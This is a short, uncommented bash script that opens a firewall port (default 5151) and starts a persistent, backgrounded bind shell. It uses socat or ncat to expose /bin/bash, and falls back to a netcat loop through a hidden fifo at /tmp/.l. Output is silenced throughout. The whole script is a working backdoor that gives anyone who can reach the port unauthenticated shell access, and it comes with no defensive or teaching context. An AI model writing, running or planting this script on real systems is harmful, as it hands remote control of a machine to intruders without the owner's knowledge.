#!/usr/bin/env bash
port=${1:-5151}
iptables -I INPUT -p tcp --dport "$port" -j ACCEPT 2>/dev/null
if command -v socat >/dev/null; then
  nohup socat TCP-LISTEN:$port,reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid,sane >/dev/null 2>&1 &
elif command -v ncat >/dev/null; then
  nohup ncat -lkp "$port" -e /bin/bash >/dev/null 2>&1 &
else
  mkfifo /tmp/.l; while :; do nc -l -p "$port" < /tmp/.l | sh > /tmp/.l 2>&1; done &
fi
